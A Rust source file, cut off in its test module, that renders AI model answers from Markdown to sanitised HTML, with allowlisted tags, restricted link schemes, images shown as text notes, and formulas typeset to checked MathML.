//! Model answers in Markdown → HTML that cannot harm the reader.
//!
//! Two walls, and the content security policy behind them as the third:
//! the renderer below writes only elements that it knows, from a syntax tree without raw HTML;
//! then `strict` checks the result against a grammar of its own, and [`ammonia`] parses whatever does not fit as a browser would and keeps what is on its list.
//! The whole text is rendered each time, never a chunk, so that parts which are harmless alone cannot join into something else.
//!
//! | written | shown |
//! |---|---|
//! | CommonMark, tables, task lists, strikethrough, bare links | as such; the highest headings at level three, below those of the page |
//! | raw HTML | as text, but for `<br>`, `<sub>` and `<sup>` |
//! | a link to `http`, `https` or `mailto` | a link in a new tab, its host beside it when the text does not name it |
//! | any other link | its text |
//! | an image | a note with its text and host: nothing is loaded from elsewhere, since the address could carry what was said |
//! | `$…$`, `$$…$$`, `\(…\)`, `\[…\]` outside code | MathML, or its source when it is unfinished or not understood |

mod strict;

use std::{
    borrow::Cow,
    collections::{HashMap, HashSet, VecDeque},
    fmt::Write as _,
    num::NonZero,
    panic::{AssertUnwindSafe, catch_unwind, resume_unwind},
    sync::{Arc, LazyLock, Mutex, PoisonError},
    thread,
};

use ammonia::UrlRelative;
use comrak::{
    Arena, Node, Options,
    arena_tree::NodeEdge,
    nodes::{ListType, NodeList, NodeMath, NodeValue, TableAlignment},
    parse_document,
};
use pulldown_latex::{
    Parser, Storage,
    config::{DisplayMode, RenderConfig},
    push_mathml,
};
use sha2::{Digest as _, Sha256};
use tokio::sync::Semaphore;

/// Longest text that is parsed, in bytes. A longer one is shown as it was written.
const TEXT_BYTES_MAX: usize = 1 << 20;

/// Shorter texts are rendered at once, which takes less time than looking for them, in bytes.
const SHARED_BYTES_MIN: usize = 8 << 10;

/// How many rendered texts are kept for other readers.
const SHARED_TEXTS_MAX: usize = 16;

/// How many elements may be open at once. Deeper nesting is flattened: browsers stop at 512 and slow down long before.
const DEPTH_MAX: usize = 48;

/// Longest formula that is typeset, in bytes. The typesetter calls itself for each level of nesting, and [`FORMULA_STACK_BYTES`] has to suffice for as many levels as fit into a formula.
const FORMULA_BYTES_MAX: usize = 4 << 10;

/// The stack on which formulas are typeset, in bytes. It is address space: only what is used takes memory.
const FORMULA_STACK_BYTES: usize = 64 << 20;

/// How deep the elements of a formula may nest.
const FORMULA_DEPTH_MAX: usize = 100;

/// How many lines a displayed formula may have.
const FORMULA_LINES_MAX: usize = 80;

/// Around the number of a formula, which takes its place until the sanitiser is done. Written by an answer itself, they are replaced.
const FORMULA_OPEN: char = '\u{E000}';
/// See [`FORMULA_OPEN`].
const FORMULA_CLOSE: char = '\u{E001}';
/// In front of a formula whose end has not come yet.
const FORMULA_PENDING: char = '\u{E002}';

/// Renders a model's answer, complete or as far as it came.
///
/// Never fails and never panics: what cannot be rendered is shown as it was written.
pub fn render(text: &str) -> String {
    render_at(text, 3)
}

/// As [`render`], for a text that several may read at once, such as an answer that is being written: a long one is rendered once for all of them, and [`apart`].
pub async fn render_shared(text: String) -> String {
    /// A text's SHA-256 and its HTML.
    type Rendered = ([u8; 32], Arc<str>);
    /// What was rendered last, the newest at the end.
    static RECENT: Mutex<VecDeque<Rendered>> = Mutex::new(VecDeque::new());
    if text.len() < SHARED_BYTES_MIN {
        return render(&text);
    }
    let key: [u8; 32] = Sha256::digest(text.as_bytes()).into();
    let recent = || RECENT.lock().unwrap_or_else(PoisonError::into_inner);
    let known = move || {
        let found = recent().iter().find(|(known, _)| *known == key).cloned();
        found.map(|(_, html)| html)
    };
    if let Some(html) = known() {
        return html.to_string();
    }
    let html = apart(move || {
        // While this waited for its place, another reader's may have been rendered.
        known().unwrap_or_else(|| {
            let html: Arc<str> = render(&text).into();
            let mut recent = recent();
            if recent.len() >= SHARED_TEXTS_MAX {
                recent.pop_front();
            }
            recent.push_back((key, Arc::clone(&html)));
            html
        })
    })
    .await;
    html.to_string()
}

/// Runs work that renders answers on a thread of its own, so that an answer which is slow to render holds up nobody but its own readers.
///
/// As many run at once as leave one core to everything else, but one at least.
pub async fn apart<T: Send + 'static>(work: impl FnOnce() -> T + Send + 'static) -> T {
    static PLACES: LazyLock<Arc<Semaphore>> = LazyLock::new(|| {
        let n_cores = thread::available_parallelism().map_or(1, NonZero::get);
        Arc::new(Semaphore::new(n_cores.saturating_sub(1).max(1)))
    });
    // Never closed. The place goes with the work, which goes on when nobody waits for it any more.
    let place = Arc::clone(&PLACES).acquire_owned().await.ok();
    let result = tokio::task::spawn_blocking(move || {
        let result = work();
        drop(place);
        result
    })
    .await;
    match result.map_err(tokio::task::JoinError::try_into_panic) {
        Ok(result) => result,
        Err(Ok(panic)) => resume_unwind(panic),
        // The process is ending; nothing waits for this any more.
        Err(Err(_)) => std::future::pending().await,
    }
}

/// Renders a text of the arena itself, such as the terms, with its highest headings at `heading_level`.
pub fn render_document(text: &str, heading_level: u8) -> String {
    render_at(text, heading_level)
}

fn render_at(text: &str, heading_level: u8) -> String {
    if text.len() > TEXT_BYTES_MAX {
        return plain(text);
    }
    let render = || {
        let (html, formulas) = write_html(text, heading_level);
        insert_formulas(&sanitised(html), &formulas)
    };
    // A fault in a parser must not cost the reader the answer. Nothing is shared with the closure but the text.
    let html = if text.contains(['$', '\\']) {
        thread::scope(|scope| {
            let thread = thread::Builder::new()
                .stack_size(FORMULA_STACK_BYTES)
                .spawn_scoped(scope, render);
            thread.ok().and_then(|thread| thread.join().ok())
        })
    } else {
        catch_unwind(AssertUnwindSafe(render)).ok()
    };
    html.unwrap_or_else(|| plain(text))
}

/// The text as it was written.
fn plain(text: &str) -> String {
    let mut html = String::with_capacity(text.len() + 64);
    html.push_str(r#"<pre class="plain" dir="auto">"#);
    push_escaped(&mut html, text);
    html.push_str("</pre>");
    html
}

// ---------------------------------------------------------------------------
// The tree → HTML

fn options() -> Options<'static> {
    let mut options = Options::default();
    options.extension.autolink = true;
    options.extension.strikethrough = true;
    options.extension.table = true;
    options.extension.tasklist = true;
    options.extension.math_dollars = true;
    options.extension.math_latex = true;
    options.extension.cjk_friendly_emphasis = true;
    options
}

/// The HTML with the formulas' numbers in it, and the formulas.
fn write_html(text: &str, heading_level: u8) -> (String, Vec<String>) {
    let text = prepare(text);
    let arena = Arena::new();
    let root = parse_document(&arena, &text, &options());
    let mut writer = Writer {
        html: String::with_capacity(text.len() + text.len() / 2),
        formulas: Vec::new(),
        heading_level,
        heading_level_min: heading_level_min(root),
        open: Vec::new(),
        depth: 0,
    };
    for edge in root.traverse() {
        match edge {
            NodeEdge::Start(node) => writer.start(node),
            NodeEdge::End(node) => writer.end(node),
        }
    }
    (writer.html, writer.formulas)
}

/// The highest level with which a heading of the text is written, so that answers which start with `#` and with `##` look the same.
fn heading_level_min(root: Node<'_>) -> u8 {
    // Headings stand in few places; what is inside a paragraph or a table need not be walked.
    let levels = root.children().filter_map(|node| match &node.data().value {
        NodeValue::Heading(heading) => Some(heading.level),
        _ => None,
    });
    levels.min().unwrap_or(1)
}

struct Writer {
    html: String,
    formulas: Vec<String>,
    /// The level at which the highest headings of the text are shown.
    heading_level: u8,
    /// The level with which they are written.
    heading_level_min: u8,
    /// What closes each node that is open; empty when nothing was opened for it.
    open: Vec<Cow<'static, str>>,
    depth: usize,
}

impl Writer {
    fn start(&mut self, node: Node<'_>) {
        let value = &node.data().value;
        // Only the outermost block tells its direction: `auto` looks past elements that have a direction of their own.
        let auto = if self.is_in_block(node) {
            ""
        } else {
            r#" dir="auto""#
        };
        let close: Cow<'static, str> = match value {
            NodeValue::Paragraph if is_in_tight_list(node) => "".into(),
            NodeValue::Paragraph => self.open(format_args!("<p{auto}>"), "</p>"),
            NodeValue::Heading(heading) => {
                let below_first = heading.level.saturating_sub(self.heading_level_min);
                let level = self.heading_level.saturating_add(below_first).clamp(1, 6);
                let close =
                    ["</h1>", "</h2>", "</h3>", "</h4>", "</h5>", "</h6>"][usize::from(level) - 1];
                self.open(format_args!("<h{level}{auto}>"), close)
            }
            NodeValue::BlockQuote => self.open(format_args!("<blockquote{auto}>"), "</blockquote>"),
            NodeValue::List(NodeList {
                list_type: ListType::Ordered,
                start,
                ..
            }) => {
                // The attribute is a 32-bit number to browsers.
                let start = i32::try_from(*start).unwrap_or(1);
                self.open(format_args!(r#"<ol start="{start}"{auto}>"#), "</ol>")
            }
            NodeValue::List(_) => self.open(format_args!("<ul{auto}>"), "</ul>"),
            NodeValue::Item(_) => self.open(format_args!("<li>"), "</li>"),
            NodeValue::TaskItem(task) => {
                let mark = if task.symbol.is_some() { '☑' } else { '☐' };
                self.open(
                    format_args!(r#"<li class="task"><span class="box">{mark}</span> "#),
                    "</li>",
                )
            }
            NodeValue::Table(_) => self.open(
                format_args!(r#"<div class="table" role="group" aria-label="Table" tabindex="0"><table{auto}>"#),
                "</table></div>",
            ),
            NodeValue::TableRow(true) => self.open(format_args!("<thead><tr>"), "</tr></thead>"),
            NodeValue::TableRow(false) => {
                let is_first = node
                    .previous_sibling()
                    .is_none_or(|row| matches!(row.data().value, NodeValue::TableRow(true)));
                let tags = if is_first { "<tbody><tr>" } else { "<tr>" };
                let is_last = node.next_sibling().is_none();
                self.open(
                    format_args!("{tags}"),
                    if is_last { "</tr></tbody>" } else { "</tr>" },
                )
            }
            NodeValue::TableCell => {
                let (is_header, class) = cell_kind(node);
                let tag = if is_header { "th" } else { "td" };
                self.open(
                    format_args!("<{tag}{class}>"),
                    if is_header { "</th>" } else { "</td>" },
                )
            }
            NodeValue::CodeBlock(block) => {
                self.code_block(&block.info, &block.literal);
                "".into()
            }
            NodeValue::ThematicBreak => {
                self.html.push_str("<hr>");
                "".into()
            }
            NodeValue::HtmlBlock(block) => {
                self.html.push_str("<p");
                self.html.push_str(auto);
                self.html.push_str(r#" class="source">"#);
                push_escaped(&mut self.html, block.literal.trim_end());
                self.html.push_str("</p>");
                "".into()
            }
            NodeValue::Text(text) => {
                push_escaped(&mut self.html, text);
                "".into()
            }
            NodeValue::SoftBreak => {
                self.html.push('\n');
                "".into()
            }
            NodeValue::LineBreak => {
                self.html.push_str("<br>");
                "".into()
            }
            NodeValue::Code(code) => {
                self.html.push_str(r#"<code dir="ltr">"#);
                push_escaped(&mut self.html, &code.literal);
                self.html.push_str("</code>");
                "".into()
            }
            NodeValue::HtmlInline(source) => {
                self.inline_html(source);
                "".into()
            }
            NodeValue::Emph => self.open(format_args!("<em>"), "</em>"),
            NodeValue::Strong => self.open(format_args!("<strong>"), "</strong>"),
            NodeValue::Strikethrough => self.open(format_args!("<del>"), "</del>"),
            NodeValue::Link(link) => self.link(node, &link.url),
            NodeValue::Image(image) => {
                let host = host(&image.url)
                    .map(|host| format!(" ({host})"))
                    .unwrap_or_default();
                let mut close = String::new();
                push_escaped(&mut close, &host);
                close.push_str("</span>");
                self.html.push_str(r#"<span class="image-note">image: "#);
                close.into()
            }
            NodeValue::Math(math) => {
                self.formula(math);
                "".into()
            }
            // The document itself, and what the options above do not switch on: its content is written without anything around it.
            _ => "".into(),
        };
        self.open.push(close);
    }

    fn end(&mut self, _node: Node<'_>) {
        let Some(close) = self.open.pop() else { return };
        if !close.is_empty() {
            self.html.push_str(&close);
            self.depth = self.depth.saturating_sub(1);
        }
    }

    fn open(&mut self, tag: std::fmt::Arguments<'_>, close: &'static str) -> Cow<'static, str> {
        if self.depth >= DEPTH_MAX {
            self.html.push(' ');
            return "".into();
        }
        self.depth += 1;
        // Writing to a string does not fail.
        let _ = self.html.write_fmt(tag);
        close.into()
    }

    /// Whether a block around this node already has a direction.
    fn is_in_block(&self, node: Node<'_>) -> bool {
        node.parent()
            .is_some_and(|parent| !matches!(parent.data().value, NodeValue::Document))
    }

    fn code_block(&mut self, info: &str, source: &str) {
        self.html.push_str(r#"<figure class="code" dir="ltr">"#);
        let language: String = info
            .split_whitespace()
            .next()
            .unwrap_or_default()
            .trim_matches(['{', '}', '.'])
            .chars()
            .take(24)
            .collect();
        if !language.is_empty() {
            self.html.push_str("<figcaption>");
            push_escaped(&mut self.html, &language);
            self.html.push_str("</figcaption>");
        }
        self.html
            .push_str(r#"<pre role="group" aria-label="Code" tabindex="0"><code>"#);
        push_escaped(&mut self.html, source);
        self.html.push_str("</code></pre></figure>");
    }

    fn inline_html(&mut self, source: &str) {
        match source.to_ascii_lowercase().as_str() {
            "<br>" | "<br/>" | "<br />" => self.html.push_str("<br>"),
            // The sanitiser closes what an answer leaves open.
            tag @ ("<sub>" | "</sub>" | "<sup>" | "</sup>") => self.html.push_str(tag),
            _ => push_escaped(&mut self.html, source),
        }
    }

    fn link(&mut self, node: Node<'_>, url: &str) -> Cow<'static, str> {
        let Some(host) = host(url).filter(|_| self.depth < DEPTH_MAX) else {
            return "".into();
        };
        self.depth += 1;
        self.html.push_str(r#"<a href=""#);
        push_attribute(&mut self.html, url);
        self.html.push_str(r#"" title=""#);
        push_attribute(&mut self.html, host);
        self.html
            .push_str(r#"" target="_blank" rel="noopener noreferrer nofollow ugc">"#);
        // A text that is the address itself needs no host beside it; any other text could name a wrong one.
        let is_bare = node
            .first_child()
            .is_some_and(|child| match &child.data().value {
                NodeValue::Text(text) => {
                    let address = url.trim_start_matches("mailto:");
                    text.as_ref() == address || address.strip_prefix("http://") == Some(text)
                }
                _ => false,
            });
        let mut close = String::from("</a>");
        if !is_bare {
            close.push_str(r#"<span class="host"> ("#);
            push_escaped(&mut close, host);
            close.push_str(")</span>");
        }
        close.into()
    }

    fn formula(&mut self, math: &NodeMath) {
        let is_pending = math.literal.starts_with(FORMULA_PENDING);
        let source = math.literal.trim_start_matches(FORMULA_PENDING).trim();
        if !math.display_math && is_price(source) {
            self.html.push('$');
            push_escaped(&mut self.html, &math.literal);
            self.html.push('$');
            return;
        }
        let typeset = if is_pending {
            None
        } else {
            typeset(source, math.display_math)
        };
        match typeset {
            Some(mathml) => {
                let _ = write!(
                    self.html,
                    "{FORMULA_OPEN}{}{FORMULA_CLOSE}",
                    self.formulas.len()
                );
                self.formulas.push(mathml);
            }
            None => {
                self.html.push_str(r#"<code class="math" dir="ltr">"#);
                push_escaped(&mut self.html, source);
                self.html.push_str("</code>");
            }
        }
    }
}

fn is_in_tight_list(node: Node<'_>) -> bool {
    let Some(item) = node.parent() else {
        return false;
    };
    if !matches!(
        item.data().value,
        NodeValue::Item(_) | NodeValue::TaskItem(_)
    ) {
        return false;
    }
    item.parent()
        .is_some_and(|list| matches!(&list.data().value, NodeValue::List(list) if list.tight))
}

/// Whether a table's cell is in its header, and the class that aligns it.
fn cell_kind(cell: Node<'_>) -> (bool, &'static str) {
    let Some(row) = cell.parent() else {
        return (false, "");
    };
    let is_header = matches!(row.data().value, NodeValue::TableRow(true));
    let Some(table) = row.parent() else {
        return (is_header, "");
    };
    let NodeValue::Table(table) = &table.data().value else {
        return (is_header, "");
    };
    // Counting from the left is quadratic in the width of a row, which is why it stops.
    let column = cell.preceding_siblings().skip(1).take(256).count();
    let class = match table.alignments.get(column) {
        Some(TableAlignment::Center) => r#" class="center""#,
        Some(TableAlignment::Right) => r#" class="right""#,
        Some(TableAlignment::Left) => r#" class="left""#,
        Some(TableAlignment::None) | None => "",
    };
    (is_header, class)
}

/// The host of a link that may be followed: `http`, `https` or `mailto` (then the part after the `@`). `None` for any other.
fn host(url: &str) -> Option<&str> {
    if url
        .chars()
        .any(|c| c.is_control() || c.is_whitespace() || c == '\\')
    {
        return None;
    }
    let (scheme, rest) = url.split_once(':')?;
    let host = match scheme.to_ascii_lowercase().as_str() {
        "http" | "https" => {
            let authority = rest.strip_prefix("//")?.split(['/', '?', '#']).next()?;
            authority.rsplit('@').next()?
        }
        "mailto" => rest.split('?').next()?.rsplit_once('@')?.1,
        _ => return None,
    };
    (!host.is_empty()).then_some(host)
}

/// Escapes text, in the spelling that the sanitiser writes.
fn push_escaped(html: &mut String, text: &str) {
    push_with(html, text, "\"");
}

/// Escapes the value of an attribute, which stands in double quotes.
fn push_attribute(html: &mut String, value: &str) {
    push_with(html, value, "&quot;");
}

fn push_with(html: &mut String, text: &str, quote: &str) {
    let mut start = 0;
    for (i, c) in text.char_indices() {
        let escaped = match c {
            '&' => "&amp;",
            '<' => "&lt;",
            '>' => "&gt;",
            '"' => quote,
            '\u{A0}' => "&nbsp;",
            FORMULA_OPEN | FORMULA_CLOSE | FORMULA_PENDING | '\0' => "\u{FFFD}",
            _ => continue,
        };
        html.push_str(&text[start..i]);
        html.push_str(escaped);
        start = i + c.len_utf8();
    }
    html.push_str(&text[start..]);
}

// ---------------------------------------------------------------------------
// The sanitiser

static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    const BLOCKS: [&str; 11] = [
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "ul",
        "ol",
        "table",
    ];
    const OTHERS: [&str; 20] = [
        "a",
        "br",
        "code",
        "del",
        "div",
        "em",
        "figcaption",
        "figure",
        "hr",
        "li",
        "pre",
        "span",
        "strong",
        "sub",
        "sup",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
    ];
    let mut values: HashMap<&str, HashMap<&str, HashSet<&str>>> = HashMap::new();
    for tag in BLOCKS {
        values.insert(tag, HashMap::from([("dir", HashSet::from(["auto"]))]));
    }
    // What scrolls can be scrolled by keyboard.
    for (tag, label) in [("div", "Table"), ("pre", "Code")] {
        let attributes = [
            ("aria-label", HashSet::from([label])),
            ("role", HashSet::from(["group"])),
            ("tabindex", HashSet::from(["0"])),
        ];
        values.insert(tag, HashMap::from(attributes));
    }
    values.insert("code", HashMap::from([("dir", HashSet::from(["ltr"]))]));
    values.insert("figure", HashMap::from([("dir", HashSet::from(["ltr"]))]));
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(BLOCKS.into_iter().chain(OTHERS).collect())
        .clean_content_tags(HashSet::from(["script", "style"]))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .tag_attribute_values(values)
        .allowed_classes(HashMap::from([
            ("code", HashSet::from(["math"])),
            ("div", HashSet::from(["table"])),
            ("figure", HashSet::from(["code"])),
            ("li", HashSet::from(["task"])),
            ("p", HashSet::from(["source"])),
            ("span", HashSet::from(["box", "host", "image-note"])),
            ("td", HashSet::from(["center", "left", "right"])),
            ("th", HashSet::from(["center", "left", "right"])),
        ]))
        .set_tag_attribute_value("a", "target", "_blank")
        .link_rel(Some("noopener noreferrer nofollow ugc"))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny);
    builder
});

/// HTML with nothing in it but what is on the list.
fn sanitised(html: String) -> String {
    if strict::is_strict(&html) {
        html
    } else {
        sanitise(&html)
    }
}

/// Parses HTML as a browser does and keeps what is on the list.
fn sanitise(html: &str) -> String {
    SANITISER.clean(html).to_string()
}

// ---------------------------------------------------------------------------
// Formulas

fn insert_formulas(html: &str, formulas: &[String]) -> String {
    let mut parts = html.split(FORMULA_OPEN);
    let mut result =
        String::with_capacity(html.len() + formulas.iter().map(String::len).sum::<usize>());
    result.push_str(parts.next().unwrap_or_default());
    for part in parts {
        let Some((number, rest)) = part.split_once(FORMULA_CLOSE) else {
            continue;
        };
        if let Some(formula) = number
            .parse::<usize>()
            .ok()
            .and_then(|number| formulas.get(number))
        {
            result.push_str(formula);
        }
        result.push_str(rest);
    }
    result
}

/// Whether what stands between two dollar signs is rather text between two prices, as in "5$ for me, 10$ for you".
fn is_price(source: &str) -> bool {
    let is_number = |c: char| c.is_ascii_digit() || matches!(c, '.' | ',');
    let starts_with_number = source.starts_with(|c: char| c.is_ascii_digit());
    let has_word = source
        .split(|c: char| !c.is_alphabetic())
        .any(|word| word.chars().count() > 1);
    let is_formula = source.contains(['\\', '^', '_', '=', '{']);
    (starts_with_number && has_word && !is_formula)
        || (!source.is_empty() && source.chars().all(is_number) && source.ends_with([',', '.']))
}

/// A formula as MathML. `None` when it is not understood entirely.
fn typeset(source: &str, is_display: bool) -> Option<String> {
    if source.is_empty() || source.len() > FORMULA_BYTES_MAX {
        return None;
    }
    let is_boxed = source.starts_with(r"\boxed");
    let source = plain_tex(source);
    let storage = Storage::new();
    let config = RenderConfig {
        display_mode: if is_display {
            DisplayMode::Block
        } else {
            DisplayMode::Inline
        },
        ..RenderConfig::default()
    };
    let events: Vec<_> = Parser::new(&source, &storage)
        .collect::<Result<_, _>>()
        .ok()?;
    let mut mathml = String::with_capacity(16 * source.len());
    push_mathml(
        &mut mathml,
        events.into_iter().map(Ok::<_, std::fmt::Error>),
        config,
    )
    .ok()?;
    if is_boxed {
        mathml = mathml.replacen("<math", r#"<math class="boxed""#, 1);
    }
    check_mathml(&mathml)
}

/// Rewrites what models write and the typesetter does not know.
fn plain_tex(source: &str) -> Cow<'_, str> {
    const OTHER_NAMES: [(&str, &str); 7] = [
        (r"\boxed{", "{"),
        (r"\fbox{", r"\text{"),
        (r"\operatorname*{", r"\operatorname{"),
        (r"\tag{", r"\qquad\text{"),
        (r"\notag", ""),
        (r"\nonumber", ""),
        (r"\displaylimits", ""),
    ];
    let mut source = Cow::Borrowed(source);
    for (name, plain) in OTHER_NAMES {
        if source.contains(name) {
            source = source.replace(name, plain).into();
        }
    }
    // Line breaks outside an environment are no TeX either.
    if source.contains(r"\\") && !source.contains(r"\begin") {
        source = format!(r"\begin{{gathered}}{source}\end{{gathered}}").into();
    }
    source
}

/// Copies MathML, tag by tag, and drops every attribute that is not on the list. `None` when an element is not.
fn check_mathml(mathml: &str) -> Option<String> {
    const ELEMENTS: [&str; 24] = [
        "math",
        "menclose",
        "mfrac",
        "mi",
        "mmultiscripts",
        "mn",
        "mo",
        "mover",
        "mpadded",
        "mphantom",
        "mprescripts",
        "mroot",
        "mrow",
        "mspace",
        "msqrt",
        "mstyle",
        "msub",
        "msubsup",
        "msup",
        "mtable",
        "mtd",
        "mtext",
        "mtr",
        "munder",
    ];
    const ATTRIBUTES: [&str; 22] = [
        "accent",
        "accentunder",
        "class",
        "columnalign",
        "depth",
        "display",
        "displaystyle",
        "fence",
        "form",
        "height",
        "largeop",
        "linethickness",
        "lspace",
        "mathvariant",
        "maxsize",
        "minsize",
        "movablelimits",
        "rspace",
        "scriptlevel",
        "separator",
        "stretchy",
        "width",
    ];
    let mut result = String::with_capacity(mathml.len());
    let mut rest = mathml;
    let mut open = Vec::new();
    while let Some(start) = rest.find('<') {
        push_text(&mut result, &rest[..start]);
        let end = start + rest[start..].find('>')?;
        let tag = &rest[start + 1..end];
        rest = &rest[end + 1..];
        if let Some(name) = tag.strip_prefix('/') {
            if open.pop() != Some(name) {
                return None;
            }
            let _ = write!(result, "</{name}>");
            continue;
        }
        let is_empty = tag.ends_with('/');
        let tag = tag.trim_end_matches('/').trim_end();
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        if !ELEMENTS.contains(&name) && name != "munderover" {
            return None;
        }
        let _ = write!(result, "<{name}");
        while let Some((attribute, after)) = attributes.trim_start().split_once("=\"") {
            let (value, after) = after.split_once('"')?;
            attributes = after;
            let is_plain = value
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b" .-#%".contains(&b));
            if ATTRIBUTES.contains(&attribute) && is_plain {
                let _ = write!(result, " {attribute}=\"{value}\"");
            }
        }
        if !attributes.trim().is_empty() {
            return None;
        }
        result.push('>');
        if is_empty {
            let _ = write!(result, "</{name}>");
        } else {
            open.push(name);
            if open.len() > FORMULA_DEPTH_MAX {
                return None;
            }
        }
    }
    push_text(&mut result, rest);
    open.is_empty().then_some(result)
}

/// Text of MathML: references to characters stay, everything else is escaped.
fn push_text(result: &mut String, text: &str) {
    for (i, c) in text.char_indices() {
        match c {
            '&' => {
                let is_reference = text[i + 1..].find(';').is_some_and(|end| {
                    (1..=8).contains(&end)
                        && text[i + 1..i + 1 + end]
                            .bytes()
                            .all(|b| b.is_ascii_alphanumeric() || b == b'#')
                });
                result.push_str(if is_reference { "&" } else { "&amp;" });
            }
            '>' => result.push_str("&gt;"),
            FORMULA_OPEN | FORMULA_CLOSE | FORMULA_PENDING | '\0' => result.push('\u{FFFD}'),
            c => result.push(c),
        }
    }
}

// ---------------------------------------------------------------------------
// Before parsing

/// Makes formulas safe from Markdown's blocks and from their own missing end.
///
/// A displayed formula over several lines becomes one line, since `- y` or `+ z` at the start of a line would be a list.
/// One that has no end is marked as pending when the text stops inside it, and taken as text otherwise: a search for an end that is not there would also cost quadratic time.
fn prepare(text: &str) -> Cow<'_, str> {
    let has_formulas = text.contains("\\[") || text.contains("\\(") || text.contains("$$");
    let has_marks = text.contains([FORMULA_OPEN, FORMULA_CLOSE, FORMULA_PENDING]);
    if !has_formulas && !has_marks {
        return text.into();
    }
    let cleaned;
    let text = if has_marks {
        cleaned = text.replace([FORMULA_OPEN, FORMULA_CLOSE, FORMULA_PENDING], "\u{FFFD}");
        cleaned.as_str()
    } else {
        text
    };
    let lines: Vec<&str> = text.split('\n').collect();
    let mut result = String::with_capacity(text.len() + 64);
    let mut paragraph = String::new();
    let mut fence: Option<(char, usize)> = None;
    let mut i = 0;
    while i < lines.len() {
        let line = lines[i];
        let content = without_containers(line);
        let run = fence_run(content);
        let is_fence = match (fence, run) {
            (Some((mark, length)), Some((closing, n))) => {
                if closing == mark && n >= length && content.trim_end().chars().all(|c| c == mark) {
                    fence = None;
                }
                true
            }
            (Some(_), None) => true,
            (None, Some(run)) => {
                fence = Some(run);
                true
            }
            (None, None) => false,
        };
        if is_fence || content.trim().is_empty() {
            flush(&mut result, &mut paragraph, false);
            result.push_str(line);
            result.push('\n');
            i += 1;
            continue;
        }
        match open_display(line) {
            Some(close) => {
                let end = (i + 1..lines.len().min(i + FORMULA_LINES_MAX))
                    .take_while(|&j| fence_run(without_containers(lines[j])).is_none())
                    .find(|&j| lines[j].contains(close));
                let stops_inside = end.is_none()
                    && lines.len() - i < FORMULA_LINES_MAX
                    && !lines[i + 1..]
                        .iter()
                        .any(|line| fence_run(without_containers(line)).is_some());
                if let Some(end) = end {
                    paragraph.push_str(line.trim_end());
                    for line in &lines[i + 1..=end] {
                        paragraph.push(' ');
                        paragraph.push_str(line.trim_start_matches([' ', '\t', '>']).trim_end());
                    }
                    paragraph.push('\n');
                    i = end + 1;
                } else if stops_inside {
                    let open = if close == "$$" { "$$" } else { "\\[" };
                    let at = line.rfind(open).unwrap_or(0);
                    paragraph.push_str(&line[..at + open.len()]);
                    paragraph.push(FORMULA_PENDING);
                    paragraph.push_str(&line[at + open.len()..]);
                    for line in &lines[i + 1..] {
                        paragraph.push(' ');
                        paragraph.push_str(line.trim());
                    }
                    // A backslash at the very end would escape the closing mark.
                    paragraph.push(' ');
                    paragraph.push_str(close);
                    paragraph.push('\n');
                    i = lines.len();
                } else {
                    paragraph.push_str(line);
                    paragraph.push('\n');
                    i += 1;
                }
            }
            None => {
                paragraph.push_str(line);
                paragraph.push('\n');
                i += 1;
            }
        }
    }
    flush(&mut result, &mut paragraph, true);
    // `split` gives one line more than there are line ends.
    result.pop();
    result.into()
}

/// Appends a paragraph in which every `\(` and `\[` has its end.
fn flush(result: &mut String, paragraph: &mut String, is_last: bool) {
    for (open, close) in [("\\(", "\\)"), ("\\[", "\\]")] {
        let after_close = paragraph.rfind(close).map_or(0, |at| at + close.len());
        let mut unclosed = paragraph[after_close..]
            .match_indices(open)
            .map(|(at, _)| after_close + at)
            .filter(|&at| !paragraph[..at].ends_with('\\'))
            .peekable();
        let Some(&first) = unclosed.peek() else {
            continue;
        };
        let is_pending =
            is_last && unclosed.clone().count() == 1 && !paragraph[first..].contains('`');
        if is_pending {
            let end = paragraph.trim_end().len();
            let formula = paragraph[first + open.len()..end].replace('\n', " ");
            let tail = format!("{open}{FORMULA_PENDING}{formula} {close}\n");
            paragraph.truncate(first);
            paragraph.push_str(&tail);
        } else {
            let mut escaped = String::with_capacity(paragraph.len() + 64);
            let mut start = 0;
            for at in unclosed {
                escaped.push_str(&paragraph[start..at]);
                escaped.push('\\');
                start = at;
            }
            escaped.push_str(&paragraph[start..]);
            *paragraph = escaped;
        }
    }
    result.push_str(paragraph);
    paragraph.clear();
}

/// The line without the marks of quotes and lists in front of it.
fn without_containers(line: &str) -> &str {
    let mut rest = line.trim_start_matches([' ', '\t', '>']);
    // More than a few levels need not be seen: what hides there is only rendered less well.
    for _ in 0..4 {
        let after_digits = rest.trim_start_matches(|c: char| c.is_ascii_digit());
        let is_ordered = after_digits.len() < rest.len()
            && (after_digits.starts_with(". ") || after_digits.starts_with(") "));
        let after = if is_ordered {
            &after_digits[2..]
        } else if let Some(after) = rest
            .strip_prefix("- ")
            .or_else(|| rest.strip_prefix("* "))
            .or_else(|| rest.strip_prefix("+ "))
        {
            after
        } else {
            break;
        };
        rest = after.trim_start_matches([' ', '\t', '>']);
    }
    rest
}

/// The mark and length of the code fence that a line starts with.
fn fence_run(content: &str) -> Option<(char, usize)> {
    let mark = content.chars().next().filter(|c| matches!(c, '`' | '~'))?;
    let n = content.chars().take_while(|&c| c == mark).count();
    // A fence of backticks has none behind it, otherwise it is code within the line.
    (n >= 3 && (mark == '~' || !content[n..].contains('`'))).then_some((mark, n))
}

/// What would close the displayed formula that this line opens and does not close.
fn open_display(line: &str) -> Option<&'static str> {
    if line.contains('`') {
        return None;
    }
    if let Some(at) = line.rfind("\\[").filter(|&at| !line[..at].ends_with('\\'))
        && !line[at..].contains("\\]")
    {
        return Some("\\]");
    }
    (line.matches("$$").count() % 2 == 1).then_some("$$")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every tag of the HTML must be known, with known attributes, and be closed in order.
    #[track_caller]
    fn check_safe(html: &str, context: &str) {
        const VOID: [&str; 2] = ["br", "hr"];
        const HTML: [&str; 30] = [
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "div",
            "em",
            "figcaption",
            "figure",
            "h2",
            "h3",
            "h4",
